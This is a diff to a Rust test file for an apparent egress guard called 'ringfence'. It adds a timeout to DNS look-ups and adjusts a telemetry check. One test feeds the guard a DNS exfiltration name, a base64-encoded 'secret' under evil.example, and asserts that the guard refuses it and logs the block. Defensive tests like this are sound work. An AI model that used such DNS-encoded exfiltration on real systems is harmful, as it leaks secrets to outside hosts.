@@ -15,7 +15,7 @@ use std::time::Duration;
 
 use ringfence_policy::{Plane, Rule};
 use ringfence_records::message::{ActionKind, Kind, Outcome, Report};
-use world::{Guard, Telemetry, World, exists, inside, look_up, name_server};
+use world::{Guard, PATIENCE, Telemetry, World, exists, inside, look_up, name_server};
 
 /// What the platform gives extensions for it, in all.
 const SHUTDOWN_DEADLINE: Duration = Duration::from_secs(2);
@@ -278,7 +278,7 @@ fn names_are_refused_or_forwarded_and_tied_to_their_addresses() {
     hint.name = b"c2VjcmV0.evil.example";
     hint.code = b"handler.py:30";
     guard.report(&hint);
-    let refused = look_up(guard.resolver_port, "c2VjcmV0.evil.example");
+    let refused = look_up(guard.resolver_port, "c2VjcmV0.evil.example", PATIENCE).unwrap();
     assert_eq!(refused[3] & 0xf, 5, "REFUSED");
     assert!(seen.lock().unwrap().is_empty(), "not a byte left");
     let line = world.record(|line| line["ringfence"]["action"] == "resolve");
@@ -287,7 +287,7 @@ fn names_are_refused_or_forwarded_and_tied_to_their_addresses() {
         "ringfence blocked look-up of c2vjcmv0.evil.example by python3.13 (egress.names)"
     );
     assert_eq!(line["ringfence"]["actor"]["code"], "handler.py:30");
-    let answer = look_up(guard.resolver_port, "api.good.example");
+    let answer = look_up(guard.resolver_port, "api.good.example", PATIENCE).unwrap();
     assert_eq!((answer[1], &answer[answer.len() - 4..]), (7, &[203, 0, 113, 7][..]));
     let words: Vec<u32> = (1024..1024 + 8 * 1024).map(|index| guard.word(index)).collect();
     let slot = words.chunks_exact(8).find(|slot| slot[4] != 0).expect("a name in the state page");
@@ -324,7 +324,7 @@ fn telemetry_tells_the_end_where_nothing_else_does() {
     let done = format!(
         r#"[{{"type":"platform.runtimeDone","record":{{"requestId":"{request}","status":"success"}}}}]"#
     );
-    assert!(world.telemetry(Some("guess"), &done).contains("404"), "only the platform knows the path");
+    assert_eq!(world.telemetry(Some("guess"), &done), "", "only the platform knows the path");
     assert!(world.telemetry(None, "garbage").contains("200"));
     assert!(world.telemetry(None, &done).contains("200"));
     world.wait_until_asked();
